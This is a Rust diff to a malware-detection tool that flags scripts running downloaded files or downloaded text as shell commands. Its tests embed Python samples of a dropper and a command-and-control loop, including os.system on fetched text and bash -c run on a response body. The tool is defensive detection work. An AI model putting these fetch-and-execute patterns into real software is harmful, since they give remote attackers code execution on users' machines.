@@ -18,20 +18,27 @@ use regex::Regex;
 use std::collections::{BTreeMap, BTreeSet};
 use std::sync::LazyLock;
 use syntax::{
-    base_name, call_args, is_name, mentions_name, split_top_level, statements, string_literals,
-    unquote,
+    base_name, call_args, is_name, matching_close, mentions_name, split_top_level, statements,
+    string_literals, unquote,
 };
 
 mod syntax;
 
-/// Where a scope downloads, writes and runs the same file (1-based lines).
+/// Where a scope runs what it fetched (1-based lines).
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct DownloadRun {
     pub fetched_line: u32,
-    pub written_line: u32,
     pub run_line: u32,
-    /// The path expression as written (`file_path`, `'update.exe'`).
-    pub path: String,
+    pub ran: Ran,
+}
+
+/// What of the download ran.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Ran {
+    /// The file it was written to (`path` as written: `file_path`, `'update.exe'`).
+    File { path: String, written_line: u32 },
+    /// The text itself, as a command line: a remote shell.
+    Command,
 }
 
 /// A network call whose result is the downloaded content or a response holding it.
@@ -143,9 +150,15 @@ pub fn runs_what_it_downloaded(
             let (path, (written_line, fetched_line)) = found;
             return Some(DownloadRun {
                 fetched_line,
-                written_line,
                 run_line: line,
-                path,
+                ran: Ran::File { path, written_line },
+            });
+        }
+        if let Some(fetched_line) = runs_received_command(text, &fetched, facts) {
+            return Some(DownloadRun {
+                fetched_line,
+                run_line: line,
+                ran: Ran::Command,
             });
         }
         for m in RETRIEVE.find_iter(text) {
@@ -197,9 +210,11 @@ pub fn runs_what_it_downloaded(
             {
                 return Some(DownloadRun {
                     fetched_line,
-                    written_line,
                     run_line: line,
-                    path: written_path.clone(),
+                    ran: Ran::File {
+                        path: written_path.clone(),
+                        written_line,
+                    },
                 });
             }
             if let Some(at) = carries(&arg, &fetched) {
@@ -263,6 +278,99 @@ const MAX_NAMES: usize = 64;
 fn remember<V>(map: &mut BTreeMap<String, V>, key: String, value: V) {
     if map.len() < MAX_NAMES || map.contains_key(&key) {
         map.insert(key, value);
+    }
+}
+
+/// The line of the download that `text` runs as a command line, directly
+/// (`os.system(r.text)`, `subprocess.run(['bash', '-c', cmd])`) or through a function
+/// of the file that runs its argument (`runcommand(resp)`).
+fn runs_received_command(
+    text: &str,
+    fetched: &BTreeMap<String, u32>,
+    facts: &FileFacts,
+) -> Option<u32> {
+    if fetched.is_empty() {
+        return None;
+    }
+    let received = |expr: &str| {
+        fetched
+            .iter()
+            .find(|(name, _)| command_is_value_of(expr, name))
+            .map(|(_, &at)| at)
+    };
+    for m in RUN.find_iter(text) {
+        if let Some(at) = call_args(text, m.end() - 1)
+            .first()
+            .and_then(|a| received(a))
+        {
+            return Some(at);
+        }
+    }
+    for runner in &facts.runners {
+        for (start, _) in text.match_indices(runner.as_str()) {
+            let rest = &text[start + runner.len()..];
+            if !called(&text[start..], runner) || !rest.trim_start().starts_with('(') {
+                continue;
+            }
+            let open = start + runner.len() + (rest.len() - rest.trim_start().len());
+            if let Some(at) = call_args(text, open).iter().find_map(|a| received(a)) {
+                return Some(at);
+            }
+        }
+    }
+    None
+}
+
+/// Whether the command `expr` is the value of `name` itself (`resp`, `r.text`,
+/// `data.decode()`), alone, first in a list, or after a shell's `-c`.
+fn command_is_value_of(expr: &str, name: &str) -> bool {
+    let expr = expr.trim();
+    if let Some(inner) = expr.strip_prefix('[').or_else(|| expr.strip_prefix('(')) {
+        let inner = inner.strip_suffix([']', ')']).unwrap_or(inner);
+        let elements = split_top_level(inner);
+        return match elements.as_slice() {
+            [program, ..] if is_value_of(program, name) => true,
+            [shell, flag, code, ..] => {
+                SHELLS.contains(&unquote(shell).to_ascii_lowercase().as_str())
+                    && ["-c", "/c", "-command"]
+                        .contains(&unquote(flag).to_ascii_lowercase().as_str())
+                    && is_value_of(code, name)
+            }
+            _ => false,
+        };
+    }
+    is_value_of(expr, name)
+}
+
+/// Shells that run the command line they are given after `-c`.
+const SHELLS: &[&str] = &["bash", "sh", "zsh", "cmd", "cmd.exe", "powershell", "pwsh"];
+
+/// Whether `expr` is `name` followed only by attributes and method calls.
+fn is_value_of(expr: &str, name: &str) -> bool {
+    let Some(mut rest) = expr.trim().strip_prefix(name) else {
+        return false;
+    };
+    loop {
+        rest = rest.trim_start();
+        if rest.is_empty() {
+            return true;
+        }
+        let Some(after_dot) = rest.strip_prefix('.') else {
+            return false;
+        };
+        let attribute = after_dot
+            .find(|c: char| !(c.is_alphanumeric() || c == '_'))
+            .unwrap_or(after_dot.len());
+        if attribute == 0 {
+            return false;
+        }
+        rest = &after_dot[attribute..];
+        if let Some(args) = rest.strip_prefix('(') {
+            let Some(close) = matching_close(args) else {
+                return false;
+            };
+            rest = &args[close + 1..];
+        }
     }
 }
 
@@ -370,6 +478,8 @@ pub struct FileFacts {
     constants: BTreeMap<String, String>,
     /// Functions of the file that make a network request: calling one fetches.
     fetchers: Vec<String>,
+    /// Functions of the file that run their argument as a command line.
+    runners: Vec<String>,
 }
 
 static CONSTANT: LazyLock<Regex> = LazyLock::new(|| {
@@ -385,10 +495,33 @@ pub fn file_facts(data: &[u8], lines: &[LineInfo]) -> FileFacts {
         facts.constants.insert(c[1].to_string(), value.to_string());
     }
     let mut names: BTreeMap<u32, String> = BTreeMap::new();
+    let mut parameters: BTreeMap<u32, Vec<String>> = BTreeMap::new();
     let mut fetching: BTreeSet<u32> = BTreeSet::new();
+    let mut running: BTreeSet<u32> = BTreeSet::new();
     for (index, (line, info)) in text.lines().zip(lines).enumerate() {
         if let Some(c) = DEF_NAME.captures(line) {
             names.insert(index as u32, c[1].to_string());
+            let open = c.get(0).map_or(0, |m| m.end());
+            if line[open..].trim_start().starts_with('(') {
+                let at = open + (line[open..].len() - line[open..].trim_start().len());
+                let params = call_args(line, at)
+                    .iter()
+                    .map(|p| p.split([':', '=']).next().unwrap_or("").trim().to_string())
+                    .filter(|p| is_name(p) && p != "self")
+                    .collect();
+                parameters.insert(index as u32, params);
+            }
+        }
+        if let Some(f) = info.function
+            && info.kind.runs()
+            && let Some(params) = parameters.get(&f)
+            && RUN.find_iter(line).any(|m| {
+                call_args(line, m.end() - 1)
+                    .first()
+                    .is_some_and(|a| params.iter().any(|p| command_is_value_of(a, p)))
+            })
+        {
+            running.insert(f);
         }
         if let Some(f) = info.function
             && info.kind.runs()
@@ -397,12 +530,15 @@ pub fn file_facts(data: &[u8], lines: &[LineInfo]) -> FileFacts {
             fetching.insert(f);
         }
     }
-    facts.fetchers = fetching
-        .iter()
-        .filter_map(|f| names.get(f).cloned())
-        .filter(|name| name.len() > 2)
-        .take(MAX_NAMES)
-        .collect();
+    let named = |set: &BTreeSet<u32>| -> Vec<String> {
+        set.iter()
+            .filter_map(|f| names.get(f).cloned())
+            .filter(|name| name.len() > 2)
+            .take(MAX_NAMES)
+            .collect()
+    };
+    facts.fetchers = named(&fetching);
+    facts.runners = named(&running);
     facts
 }
 
@@ -494,11 +630,14 @@ mod tests {
     fn follows_a_response_into_a_file_that_is_started() {
         let source = "import requests, subprocess\n\ndef init(url):\n    response = requests.get(url)\n    path = os.path.join(tmp, name)\n    with open(path, 'wb') as file:\n        file.write(response.content)\n\n    subprocess.run([path])\n";
         let found = flow(source).expect("a dropper");
+        assert_eq!((found.fetched_line, found.run_line), (4, 9));
         assert_eq!(
-            (found.fetched_line, found.written_line, found.run_line),
-            (4, 7, 9)
+            found.ran,
+            Ran::File {
+                path: "path".to_string(),
+                written_line: 7
+            }
         );
-        assert_eq!(found.path, "path");
     }
 
     #[test]
@@ -519,6 +658,31 @@ mod tests {
             "with urlopen(U) as r, open(p, 'wb') as f:\n    shutil.copyfileobj(r, f)\nsubprocess.call([sys.executable, p])\n",
         ] {
             assert!(flow(source).is_some(), "{source}");
+        }
+    }
+
+    #[test]
+    fn text_received_and_run_as_a_command_is_a_remote_shell() {
+        // requestsdev's loop: the response is the command, run by a helper of the file.
+        let c2 = "def debug():\n    while True:\n        resp = requests.get(link)\n        resp = resp.text\n        \
+                  output = runcommand(resp)\n\ndef runcommand(value):\n    return subprocess.run(value, shell=True)\n";
+        let found = flow(c2).expect("a remote shell");
+        assert_eq!(
+            (found.fetched_line, found.run_line, found.ran),
+            (3, 5, Ran::Command)
+        );
+        for source in [
+            "def f():\n    cmd = urlopen(U).read().decode()\n    os.system(cmd)\n",
+            "r = requests.get(U)\nsubprocess.Popen(['bash', '-c', r.text])\n",
+        ] {
+            assert_eq!(flow(source).map(|f| f.ran), Some(Ran::Command), "{source}");
+        }
+        // A self-updater puts a fetched version into a command it wrote itself.
+        for source in [
+            "def up():\n    v = requests.get(U).json()['version']\n    subprocess.run([sys.executable, '-m', 'pip', 'install', f'x=={v}'])\n",
+            "def up():\n    v = requests.get(U).text\n    os.system(f'pip install x=={v}')\n",
+        ] {
+            assert_eq!(flow(source), None, "{source}");
         }
     }
 
